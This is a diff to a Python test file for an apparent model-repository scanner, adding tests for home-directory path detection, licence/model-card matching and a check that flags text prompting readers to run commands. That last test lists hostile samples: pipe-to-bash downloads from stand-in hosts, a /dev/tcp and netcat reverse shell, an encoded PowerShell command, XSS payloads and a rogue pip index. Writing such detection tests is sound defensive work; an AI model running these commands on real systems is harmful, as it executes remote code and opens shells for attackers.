@@ -66,7 +66,7 @@ def test_a_header_whose_length_looks_like_a_pickle_is_none(tmp_path: Path) -> No
     header = b'{"t":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}'.ljust(640)
     content = (640).to_bytes(8, "little") + header + b"\0"
     assert content[:2] == b"\x80\x02"
-    assert codes(judged(tmp_path, {"a/b/c.safetensors": content})) == {"FS019"}  # too deep
+    assert codes(judged(tmp_path, {"a/b/c.safetensors": content})) == {"FS013", "FS019"}  # too deep
 
 
 @pytest.mark.parametrize(
@@ -236,12 +236,67 @@ def test_every_issuer_is_known(tmp_path: Path, secret: str) -> None:
         "/home/ada/run",
         "/Users/ada",
         "\\/Users\\/ada\\/x",
+        "c:\\users\\ada\\run",
+        "/mnt/c/Users/ada/run",
+        "/System/Volumes/Data/Users/ada/run",
+        "/nfs/home/ada/run",
+        "file:///home/ada/run",
+        "(/home/ada)",
+        "/Users/ad\u00e1/run",
+        "/Users/\u5c71\u7530/run",
+        "/Volumes/adas-disk/run",
+        "/private/var/folders/ad/a1/T/run",
     ],
 )
 def test_homes_of_every_system(tmp_path: Path, text: str) -> None:
     report = judged(tmp_path, {"notes.md": f'# Notes\n\n"{text}"\n'.encode()})
     (found,) = [f for f in report.findings if f.code == "SC003"]
     assert found.severity is Severity.WARNING and "ada" not in found.message
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["https://acme.org/home/ada", "[intro](/docs/home/ada)", "src/home/ada", "/home/user/run",
+     "the users\\ada of it", "~/home/ada", "/en/Users/ada"],
+)  # fmt: skip
+def test_what_is_nobodys_home(tmp_path: Path, text: str) -> None:
+    report = judged(tmp_path, {"notes.md": text.encode()})
+    assert "SC003" not in {f.code for f in report.findings}
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["wget -qO- http://acme.example/x.sh | sudo bash", "bash -c \"$(curl -fsSL https://a.example)\"",
+     "bash -i >& /dev/tcp/10.0.0.1/44 0>&1", "nc 10.0.0.1 44 -e /bin/sh", "sh <(curl a.example)",
+     "PowerShell -NoP -Enc SQBFAFgAKABOAGUAdwA=", "<img src=x onerror=alert(1)>",
+     "<iframe src='javascript:x()'>", "pip install --index-url http://acme.example/simple acme"],
+)  # fmt: skip
+def test_a_text_that_has_its_reader_run_something(tmp_path: Path, text: str) -> None:
+    report = judged(tmp_path, {"notes.md": text.encode()})
+    assert "FS021" in {f.code for f in report.findings}
+
+
+@pytest.mark.parametrize(
+    ("licence", "named", "fits"),
+    [
+        ("MIT License\n\nPermission is hereby granted, free of charge", "mit", True),
+        ("MIT License\n\nPermission is hereby granted, free of charge", "llama3.1", False),
+        ("LLAMA 3.1 COMMUNITY LICENSE AGREEMENT", "llama3.1", True),
+        ("LLAMA 3.1 COMMUNITY LICENSE AGREEMENT", "apache-2.0", False),
+        ("Gemma Terms of Use", "mit", False),
+        ("Attribution-NonCommercial 4.0 International", "cc-by-4.0", False),
+        ("Creative Commons Attribution 4.0 International", "cc-by-4.0", True),
+        ("GNU LESSER GENERAL PUBLIC LICENSE\nof the GNU General Public License", "lgpl-3.0", True),
+        ("Terms of ACME", "mit", True),
+        ("Gemma Terms of Use", "other", True),
+    ],
+)
+def test_the_text_of_a_licence_and_the_cards(
+    tmp_path: Path, licence: str, named: str, fits: bool
+) -> None:
+    card = f"---\nlicense: {named}\n---\n# A model\n".encode()
+    report = judged(tmp_path, {"LICENSE": licence.encode(), "README.md": card})
+    assert ("CD010" in {f.code for f in report.findings}) is not fits
 
 
 @pytest.mark.parametrize(
